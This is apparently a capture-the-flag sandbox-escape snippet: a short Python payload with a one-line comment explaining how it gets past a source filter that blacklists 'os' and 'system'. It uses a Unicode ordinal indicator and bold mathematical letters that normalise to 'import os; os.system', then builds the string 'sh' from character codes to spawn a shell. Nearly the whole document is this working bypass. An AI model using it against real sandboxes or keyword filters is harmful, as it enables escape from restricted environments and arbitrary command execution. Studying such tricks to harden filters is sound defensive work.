# restriction: words os/system blacklisted in source; idea: ordinal indicator and bold math letters normalize to import os / os.system
import ºs;ºs.𝐬𝐲𝐬𝐭𝐞𝐦(chr(115)+chr(104))
